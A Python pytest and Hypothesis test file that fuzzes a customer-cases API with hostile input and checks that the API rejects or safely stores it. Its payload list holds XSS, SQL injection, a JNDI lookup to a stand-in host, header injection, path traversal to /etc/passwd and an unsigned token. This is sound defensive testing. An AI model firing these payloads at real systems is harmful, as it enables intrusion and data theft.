"""Whatever is sent to the API: it answers with a problem, does nothing it may not, and says nothing of what was sent."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.api.requests import Asks

CASES = "customers/C-1001/cases"
VALUES = (
    "<img src=x onerror=alert(1)>",
    "'; drop table cases; --",
    "${jndi:ldap://elsewhere.example}",
    "{{7*7}}",
    "\r\nSet-Cookie: a=b",
    "\x00",
    "\u202e\ufeff",
    "=HYPERLINK(1)",
    "../../../../etc/passwd",
    "%00%0d%0a",
    "A" * 200,
    "😀",
    "\ud800",  # half a character
)
ROUTES = (
    ("POST", CASES),
    ("PATCH", f"{CASES}/1001"),
    ("POST", f"{CASES}/1001/notes"),
    ("POST", "customers/C-1001/notes"),
    ("PUT", "contact/attributes/wrapUp"),
)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | st.sampled_from(VALUES),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=12), children, max_size=3),
    max_leaves=8,
)
NAMES = st.sampled_from(("subject", "priority", "note", "status", "text", "value", "__proto__", "customer", "id"))


@pytest.fixture(scope="module")
def asks(tmp_path_factory: pytest.TempPathFactory) -> Asks:
    return Asks(tmp_path_factory.mktemp("api"))


_number = iter(range(1, 10**9))


@given(route=st.sampled_from(ROUTES), body=JSON | st.dictionaries(NAMES, JSON, max_size=4), query=st.text(max_size=20))
def test_no_body_breaks_a_route(asks: Asks, route: tuple[str, str], body: Any, query: str) -> None:
    method, path = route
    raw = json.dumps(body).encode("utf-8", "surrogatepass")
    answer = asks(method, path, raw, f"{next(_number):032x}", query=query.encode("ascii", "ignore").decode())
    assert answer.status in (200, 201, 204, 400, 413, 422), answer.body
    if answer.status >= 400:
        assert set(answer.json) <= {"title", "status", "detail", "errors"}


@given(
    path=st.text(st.characters(min_codepoint=33, max_codepoint=126), max_size=40),
    method=st.sampled_from(["GET", "POST"]),
)
def test_no_path_breaks_it_or_leads_to_another_customer(asks: Asks, path: str, method: str) -> None:
    answer = asks(method, f"customers/{path}", {}, f"{next(_number):032x}")
    assert answer.status in (200, 201, 400, 403, 404, 422)
    if answer.status < 300:
        assert path.startswith("C-1001/")


@pytest.mark.parametrize("value", VALUES)
def test_a_hostile_text_is_kept_as_it_is_and_is_json(tmp_path: Path, value: str) -> None:
    own = Asks(tmp_path)
    made = own("POST", CASES, {"subject": f"a {value} b", "note": value[:200]}, f"{next(_number):032x}")
    if len(value) > 190 or value == "\ud800":  # too long with what is around it; no text
        assert made.status == 422
        return
    assert made.status == 201
    assert made.json["subject"] == f"a {value} b"
    assert made.headers["content-type"] == "application/json"
    assert set(made.headers) <= {"content-type", "cache-control", "x-content-type-options"}
    assert value[:10] not in own.out.getvalue() or value[:1] == "\x00"


@pytest.mark.parametrize("token", ["", "x", "a.b.c", "good ", "Good", "good\x00", "null", "eyJhbGciOiJub25lIn0.e30."])
def test_no_other_token_is_taken(asks: Asks, token: str) -> None:
    before = len(asks("GET", CASES).json["cases"])
    assert asks("POST", CASES, {"subject": "x"}, f"{next(_number):032x}", token=token).status == 401
    assert len(asks("GET", CASES).json["cases"]) == before
